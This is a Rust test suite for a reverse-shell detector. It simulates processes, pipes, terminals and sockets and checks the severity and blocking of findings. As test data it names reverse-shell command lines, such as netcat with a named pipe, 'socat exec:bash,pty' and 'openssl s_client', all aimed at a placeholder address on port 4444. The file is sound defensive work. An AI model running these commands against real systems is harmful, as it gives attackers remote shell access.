//! Every kind of reverse shell.

use netd_common::record::SocketRecord;
use netd_engine::config::Config;
use netd_engine::finding::{Finding, Severity};
use netd_engine::streams::{Access, Object, Opened};

use super::support::{C2, HERE, Host, names, stdio};
use crate::support::{TCP, Talk, World, ip, ns};

/// The one finding that a host's shell 9 amounts to.
fn found(host: &Host) -> Finding {
    let mut findings = host.findings(9);
    assert_eq!(findings.len(), 1, "{:?} of {:?}", findings, host.graph(9).lines());
    let finding = findings.remove(0);
    assert_eq!(finding.detector, "host_reverse_shell");
    assert_eq!((finding.pair.responder, finding.pair.responder_port), (ip("198.51.100.7"), 4444));
    finding
}

#[test]
fn a_shell_on_a_connected_socket_is_critical_at_once_and_fit_for_a_block() {
    let mut host = Host::default();
    host.sh(9);
    host.connected(&stdio(9));

    let finding = found(&host);

    assert_eq!(finding.severity, Severity::Critical);
    assert!(finding.block);
    let told = finding.host.unwrap();
    assert_eq!(told.lines[0], format!("sh[9] 0 == {HERE} -> {C2} (connected)"));
    assert!((told.latency_s - 0.02).abs() < 1e-3);
}

#[test]
fn an_interpreter_on_a_connected_socket_is_critical_too() {
    let mut host = Host::default();
    host.run(9, "/usr/bin/python3.11", "python3 -c import");
    host.connected(&stdio(9));

    assert_eq!(found(&host).severity, Severity::Critical);
}

#[test]
fn anything_else_on_a_connected_socket_is_suspicious_and_no_more() {
    let mut host = Host::default();
    host.run(9, "/usr/bin/agent", "agent");
    host.connected(&stdio(9));

    assert_eq!(found(&host).severity, Severity::Low);
}

#[test]
fn datagrams_are_found_and_never_block() {
    let mut host = Host::default();
    host.run(9, "/usr/bin/bash", "bash -i");
    host.datagrams(&stdio(9));

    let finding = found(&host);

    assert!(finding.severity >= Severity::High && !finding.block);
}

#[test]
fn version_six_is_found_like_version_four() {
    let mut host = Host::default();
    host.sh(9);
    host.socket(&stdio(9), TCP, "[2001:db8::7]:51514", "[2001:db8:1::9]:4444", Opened::Connected);

    let findings = host.findings(9);

    assert_eq!(findings[0].severity, Severity::Critical);
    assert_eq!(findings[0].pair.responder, ip("2001:db8:1::9"));
}

#[test]
fn netcat_and_a_named_pipe_are_high() {
    let mut host = Host::default();
    host.sh(9);
    host.run(11, "/usr/bin/nc.openbsd", "nc 198.51.100.7 4444");
    host.run(12, "/usr/bin/cat", "cat /tmp/f");
    host.pipe(&[(12, 1)], &[(9, 0)]);
    host.fifo(&[(11, 1)], &[(12, 3)]);
    host.pipe(&[(9, 1), (9, 2)], &[(11, 0)]);
    host.connected(&[(11, 3)]);

    let finding = found(&host);

    assert_eq!(finding.severity, Severity::High);
    assert!(!finding.block, "the network has not agreed yet");
    let lines = finding.host.unwrap().lines;
    assert_eq!(lines[0], format!("sh[9] 0 <- pipe <- cat[12] 3 <- fifo <- nc[11] 3 == {HERE} -> {C2} (connected)"));
    assert_eq!(lines[1], format!("sh[9] 1 -> pipe -> nc[11] 3 == {HERE} -> {C2} (connected)"));
}

#[test]
fn a_shell_piped_through_openssl_is_high() {
    let mut host = Host::default();
    host.run(9, "/usr/bin/bash", "bash -i");
    host.run(11, "/usr/bin/openssl", "openssl s_client -quiet -connect 198.51.100.7:4444");
    host.fifo(&[(11, 1)], &[(9, 0)]);
    host.pipe(&[(9, 1)], &[(11, 0)]);
    host.connected(&[(11, 3)]);

    assert_eq!(found(&host).severity, Severity::High);
}

#[test]
fn a_terminal_that_python_made_is_high() {
    let mut host = Host::default();
    host.run(9, "/usr/bin/bash", "/bin/bash");
    host.run(11, "/usr/bin/python3.11", "python3 -c import");
    host.below(9, 11);
    host.pty(&[(11, 4)], &stdio(9));
    host.connected(&[(11, 0), (11, 1), (11, 2), (11, 3)]);

    let finding = found(&host);

    assert_eq!(finding.severity, Severity::High);
    assert_eq!(finding.host.unwrap().tree, "python3[11] > bash[9]");
}

#[test]
fn a_terminal_that_socat_made_is_high() {
    let mut host = Host::default();
    host.run(9, "/usr/bin/bash", "bash -li");
    host.run(11, "/usr/bin/socat", "socat exec:bash,pty,stderr tcp:198.51.100.7:4444");
    host.pty(&[(11, 6)], &stdio(9));
    host.connected(&[(11, 5)]);

    assert_eq!(found(&host).severity, Severity::High);
}

#[test]
fn a_relay_over_a_pair_of_sockets_is_high() {
    let mut host = Host::default();
    host.sh(9);
    host.run(11, "/home/a/relay", "relay");
    host.socketpair(&[(11, 3)], &stdio(9));
    host.connected(&[(11, 4)]);

    assert_eq!(found(&host).severity, Severity::High);
}

#[test]
fn a_fork_between_connect_and_dup_hides_nothing() {
    let mut host = Host::default();
    host.run(8, "/home/a/loader", "loader");
    host.sh(9);
    host.connected(&[(8, 3), (9, 0), (9, 1), (9, 2)]);

    assert_eq!(found(&host).severity, Severity::Critical);
}

#[test]
fn relays_of_several_processes_are_walked_through() {
    let mut host = Host::default();
    host.sh(9);
    for pid in 11..=14 {
        host.run(pid, "/usr/bin/cat", "cat");
    }
    host.run(15, "/usr/bin/ncat", "ncat 198.51.100.7 4444");
    host.pipe(&[(11, 1)], &[(9, 0)]);
    host.pipe(&[(12, 1)], &[(11, 0)]);
    host.fifo(&[(15, 1)], &[(12, 0)]);
    host.pipe(&[(9, 1)], &[(13, 0)]);
    host.pipe(&[(13, 1)], &[(14, 0)]);
    host.pipe(&[(14, 1)], &[(15, 0)]);
    host.connected(&[(15, 3)]);

    assert_eq!(found(&host).severity, Severity::High);
}

#[test]
fn a_relay_through_loopback_leads_on() {
    let mut host = Host::default();
    host.sh(9);
    host.run(11, "/usr/bin/socat", "socat tcp-listen:9000,fork tcp:198.51.100.7:4444");
    host.within(&stdio(9), &[(11, 5)], 9000);
    host.listening(&[(11, 4)], 9000);
    host.connected(&[(11, 6)]);

    let finding = found(&host);

    assert_eq!(finding.severity, Severity::High);
    assert!(finding.host.unwrap().lines[0].contains("<- loopback <- socat[11] 6"));
}

#[test]
fn two_connections_to_one_host_are_one_shell() {
    let mut host = Host::default();
    host.sh(9);
    for pid in [11, 12] {
        host.run(pid, "/usr/bin/telnet", "telnet 198.51.100.7");
    }
    host.pipe(&[(11, 1)], &[(9, 0)]);
    host.pipe(&[(9, 1)], &[(12, 0)]);
    host.connected(&[(11, 3)]);
    host.socket(&[(12, 3)], TCP, "10.0.3.7:51515", "198.51.100.7:4445", Opened::Connected);

    assert_eq!(found(&host).severity, Severity::High);
}

#[test]
fn a_program_from_memory_on_a_socket_is_high() {
    let mut host = Host::default();
    host.run(9, "/memfd:x (deleted)", "x");
    host.connected(&stdio(9));

    let finding = found(&host);

    assert_eq!(finding.severity, Severity::High);
    assert!(names(&finding).contains(&"memory_executable"));
}

#[test]
fn a_server_that_leads_a_relayed_shell_outward_makes_it_critical() {
    let relayed = |user: Option<&str>| {
        let mut host = Host::default();
        host.run(7, "/usr/sbin/apache2", "apache2");
        host.sh(9).user = user.map(Into::into);
        host.run(11, "/usr/bin/nc.openbsd", "nc 198.51.100.7 4444");
        host.fifo(&[(11, 1)], &[(9, 0)]);
        host.pipe(&[(9, 1)], &[(11, 0)]);
        host.connected(&[(11, 3)]);
        if user.is_none() {
            host.below(9, 7);
        }
        found(&host)
    };

    for finding in [relayed(Some("www-data")), relayed(None)] {
        assert_eq!(finding.severity, Severity::Critical);
        assert!(finding.block && names(&finding).contains(&"service_parent"));
    }
}

#[test]
fn a_child_of_a_web_server_on_a_connected_socket_is_a_shell() {
    let mut host = Host::default();
    host.run(7, "/usr/sbin/apache2", "apache2");
    host.sh(9);
    host.below(9, 7);
    host.connected(&stdio(9));

    assert_eq!(found(&host).severity, Severity::Critical);
}

#[test]
fn a_known_name_in_the_wrong_place_excuses_nothing() {
    let mut host = Host::default();
    host.sh(9);
    host.run(11, "/tmp/.x/sshd", "sshd");
    host.pty(&[(11, 4)], &stdio(9));
    host.connected(&[(11, 3)]);

    let finding = found(&host);

    assert!(finding.severity >= Severity::High);
    assert!(names(&finding).contains(&"posing_program"));
}

#[test]
fn the_network_and_the_host_make_each_other_sure() {
    let mut host = Host::default();
    host.sh(9);
    host.run(11, "/usr/bin/nc.openbsd", "nc 198.51.100.7 4444");
    host.fifo(&[(11, 1)], &[(9, 0)]);
    host.pipe(&[(9, 1)], &[(11, 0)]);
    host.connected(&[(11, 3)]);
    let mut world = World::new(Config::default());
    let mut talk = Talk::open(&mut world, HERE, C2);
    talk.say(&mut world, true, b"$ ");
    talk.typed(&mut world, &[(false, 3, 40), (false, 7, 120), (false, 4, 260), (false, 12, 90), (false, 5, 60)]);
    assert!(world.findings().iter().any(|finding| finding.detector == "reverse_shell"));

    host.look(&mut world, 9);

    let findings = world.findings();
    assert_eq!(findings[0].severity, Severity::Critical);
    assert!(names(&findings[0]).contains(&"network_agrees"));

    talk.typed(&mut world, &[(false, 3, 40), (false, 7, 120), (false, 4, 260)]);
    talk.close(&mut world);
    let rises = world.findings();
    let risen = rises.iter().find(|finding| finding.detector == "reverse_shell").unwrap();
    assert!(names(risen).contains(&"host_agrees"));
}

#[test]
fn a_shell_whose_relay_is_not_connected_yet_is_worth_another_look() {
    let mut host = Host::default();
    host.sh(9);
    host.run(11, "/usr/bin/nc.openbsd", "nc 198.51.100.7 4444");
    host.fifo(&[(11, 1)], &[(9, 0)]);
    host.pipe(&[(9, 1)], &[(11, 0)]);
    let mut world = World::new(Config::default());

    assert!(host.look(&mut world, 9));
    assert_eq!(world.findings(), []);

    host.connected(&[(11, 3)]);
    assert!(!host.look(&mut world, 9));
    assert_eq!(world.findings().len(), 1);
}

#[test]
fn one_session_is_one_incident_however_many_programs_it_runs() {
    let mut host = Host::default();
    host.sh(9);
    host.run(20, "/usr/bin/bash", "bash -i");
    host.below(20, 9);
    host.connected(&[stdio(9), stdio(20)].concat());
    let mut world = World::new(Config::default());

    host.look(&mut world, 9);
    host.look(&mut world, 20);

    assert_eq!(world.findings().len(), 1);
}

#[test]
fn a_connection_that_began_before_netd_is_told_by_its_ports() {
    let mut host = Host::default();
    host.sh(9);
    host.socket(&stdio(9), TCP, HERE, C2, Opened::Unknown);

    let finding = found(&host);

    assert!(finding.severity >= Severity::High);
    assert!(finding.host.unwrap().lines[0].ends_with("(connected, by its ports)"));
}

#[test]
fn a_script_from_the_network_is_a_question_and_no_shell() {
    let mut host = Host::default();
    host.run(9, "/usr/bin/dash", "sh -s -- -y");
    host.run(11, "/usr/bin/curl", "curl -sSf https://example.org/install.sh");
    host.pipe(&[(11, 1)], &[(9, 0)]);
    host.hold(&[(9, 1), (9, 2)], Object::Console, Access::Both);
    host.connected(&[(11, 5)]);

    let findings = host.findings(9);

    assert_eq!(findings.len(), 1);
    assert_eq!((findings[0].detector, findings[0].severity), ("piped_script", Severity::Low));
}

#[test]
fn the_process_of_a_finding_is_the_shell_and_not_who_owns_the_socket() {
    let mut host = Host::default();
    host.sh(9);
    host.connected(&[stdio(9).as_slice(), &[(8, 3)]].concat());
    let mut world = World::new(Config::default());
    let mut socket = SocketRecord { cookie: 5, ..SocketRecord::default() };
    socket.header.time_ns = ns(0.0);
    socket.owner.tgid = 8;
    socket.event = netd_common::record::SocketEvent::Open as u8;
    world.engine.observe_socket(&socket);
    let _ = Talk::open_as(&mut world, HERE, C2, 5);

    host.look(&mut world, 9);

    assert_eq!(world.findings()[0].process.as_ref().unwrap().id.pid, 9);
}

/// A line of an interpreter that holds the masters of a shell and of a client.
fn two_terminals(exe: &str, line: &str) -> Host {
    let mut host = Host::default();
    host.sh(9);
    host.run(11, exe, line);
    host.run(12, "/usr/bin/nc.openbsd", "nc 198.51.100.7 4444");
    host.pty(&[(11, 5)], &stdio(9));
    host.pty(&[(11, 6)], &stdio(12));
    host.connected(&[(12, 3)]);
    host
}

#[test]
fn a_line_of_an_interpreter_relays_between_its_two_terminals() {
    let host = two_terminals("/usr/bin/expect", "expect -c spawn");

    assert!(found(&host).severity >= Severity::Medium);
}

#[test]
fn a_program_with_terminals_of_its_own_concern_relays_nothing() {
    for (exe, line) in [("/usr/bin/node", "node /usr/lib/editor/terminals.js"), ("/opt/editor/editor", "editor")] {
        assert_eq!(two_terminals(exe, line).findings(9), [], "{exe}");
    }
    let mut another = two_terminals("/usr/bin/expect", "expect -c spawn");
    another.pty(&[(11, 7)], &[]);
    assert_eq!(another.findings(9), []);
    let mut watched = two_terminals("/usr/bin/expect", "expect -c spawn");
    watched.pty(&[(99, 7)], &stdio(11));
    assert_eq!(watched.findings(9), []);
}

#[test]
fn a_peer_in_another_namespace_of_the_same_machine_is_as_far_as_another_host() {
    let mut host = Host { netns: 1, ..Host::default() };
    host.sh(9);
    host.run(11, "/usr/bin/ncat", "ncat --ssl");
    host.pipe(&[(11, 5)], &[(9, 0)]);
    host.pipe(&[(9, 1)], &[(11, 6)]);
    host.connected(&[(11, 3)]);
    host.netns = 2;
    host.run(80, "/usr/bin/openssl", "openssl s_server");
    host.socket(&[(80, 4)], TCP, C2, HERE, Opened::Accepted);

    assert!(found(&host).severity >= Severity::Medium);
}

#[test]
fn terminals_of_two_containers_with_one_number_are_two() {
    let mut host = Host::default();
    host.sh(9);
    host.hold(&stdio(9), Object::Terminal { device: 30, index: 0 }, Access::Both);
    host.run(11, "/usr/bin/socat", "socat");
    host.hold(&[(11, 5)], Object::TerminalMaster { device: 31, index: 0 }, Access::Both);
    host.connected(&[(11, 3)]);
    assert_eq!(host.findings(9), []);

    // Opened by a node outside: of an instance that nobody tells.
    host.hold(&[(11, 6)], Object::TerminalMaster { device: 0, index: 0 }, Access::Both);
    assert!(found(&host).severity >= Severity::Medium);
}
